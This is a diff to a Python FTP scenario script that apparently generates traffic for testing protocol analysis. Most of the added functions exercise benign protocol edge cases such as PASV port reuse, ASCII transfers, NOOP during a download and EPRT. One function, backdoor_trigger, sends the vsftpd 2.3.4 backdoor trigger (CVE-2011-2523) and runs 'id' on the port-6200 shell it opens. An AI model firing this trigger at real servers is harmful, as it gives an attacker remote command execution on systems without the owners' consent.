@@ -455,6 +455,103 @@ def cleartext_after_tls_offer(host, user, password):
     f.quit()
 
 
+def backdoor_trigger(host):
+    """The vsftpd 2.3.4 backdoor trigger (CVE-2011-2523) as exploit tools send it: a USER
+    ending in ":)", any PASS, then a connection to port 6200 of the server and a command."""
+    c = Raw(host)
+    c.reply()
+    c.cmd(b"USER backdoored:)")
+    c.send(b"PASS whatever\r\n")
+    sys.stdout.write("-> PASS (no reply expected: the backdoor blocks the session)\n")
+    time.sleep(0.5)
+    sh = socket.create_connection((host, 6200), timeout=5)
+    sh.sendall(b"id\n")
+    print("shell:", sh.recv(4096))
+    sh.sendall(b"exit\n")
+    sh.close()
+    c.close()
+
+
+def connect_attempts(refused_host, silent_host):
+    """TCP connection attempts to port 21 that never become FTP: one refused (RST), one
+    unanswered (the SYN and its retransmissions, then the client gives up)."""
+    for host, timeout in ((refused_host, 2), (silent_host, 3.5)):
+        try:
+            socket.create_connection((host, 21), timeout=timeout).close()
+            print(host, "connected?")
+        except OSError as e:
+            print(host, "->", e)
+
+
+def pasv_reuse(host, user, password):
+    """Two sessions open at once against a server with ONE passive port: each PASV reply
+    names the same port, so one port serves data connections of both sessions in turn."""
+    a, b = ftplib.FTP(), ftplib.FTP()
+    for f in (a, b):
+        f.set_debuglevel(1)
+        f.connect(host, 21)
+        f.login(user, password)
+        f.set_pasv(True)
+    a.retrlines("LIST")
+    b.retrbinary("RETR hello.txt", lambda d: None)
+    a.retrlines("NLST")
+    b.retrbinary("RETR readme.txt", lambda d: None)
+    a.quit()
+    b.quit()
+
+
+def type_a(host, user, password):
+    """SIZE in binary mode, then an ASCII-mode RETR (TYPE A): the server converts LF to
+    CRLF (RFC 959 3.1.1.1), so the wire carries more bytes than SIZE announced."""
+    f = ftplib.FTP()
+    f.set_debuglevel(1)
+    f.connect(host, 21)
+    f.login(user, password)
+    f.voidcmd("TYPE I")
+    print("size", f.size("readme.txt"))
+    f.retrlines("RETR readme.txt", lambda l: None)  # ftplib sends TYPE A
+    f.quit()
+
+
+def noop_during_retr(host, user, password):
+    """A keep-alive NOOP sent on the control connection while a slow RETR is still
+    flowing (FileZilla and WinSCP do this); the replies are read after the data."""
+    f = ftplib.FTP()
+    f.set_debuglevel(1)
+    f.connect(host, 21)
+    f.login(user, password)
+    f.voidcmd("TYPE I")
+    conn = f.transfercmd("RETR big-300k.bin")
+    got, sent = 0, False
+    while True:
+        d = conn.recv(8192)
+        if not d:
+            break
+        got += len(d)
+        if not sent and got > 100000:
+            f.sock.sendall(b"NOOP\r\n")
+            sys.stdout.write("-> NOOP (during the transfer, at %d bytes)\n" % got)
+            sent = True
+    conn.close()
+    print("got", got)
+    print(f.getmultiline())
+    print(f.getmultiline())
+    f.quit()
+
+
+def eprt_v6_on_v4(host, user, password, addr6):
+    """A dual-stack client sending EPRT with its own IPv6 address over an IPv4 control
+    connection (RFC 2428 2 allows any protocol family); the server refuses it."""
+    c = Raw(host)
+    c.reply()
+    c.cmd(b"USER " + user.encode())
+    c.cmd(b"PASS " + password.encode())
+    c.cmd(b"EPRT |2|%s|50123|" % addr6.encode())
+    c.cmd(b"PASV")
+    c.cmd(b"QUIT")
+    c.close()
+
+
 SCENARIOS = {
     "pipelined": pipelined, "hostile": hostile, "multiline": multiline, "fxp": fxp,
     "abort": abort, "concurrent": concurrent, "uploads": uploads, "listings": listings, "cwd": cwd_paths,
@@ -462,6 +559,9 @@ SCENARIOS = {
     "login": login_ok, "spray": spray, "tls-refused": tls_refused,
     "user-before-auth": user_before_auth, "bounce": bounce, "site": site,
     "anon-upload": anon_upload, "cleartext-after-tls-offer": cleartext_after_tls_offer,
+    "backdoor-trigger": backdoor_trigger, "connect-attempts": connect_attempts,
+    "pasv-reuse": pasv_reuse, "type-a": type_a, "noop-during-retr": noop_during_retr,
+    "eprt-v6-on-v4": eprt_v6_on_v4,
 }
 
 if __name__ == "__main__":
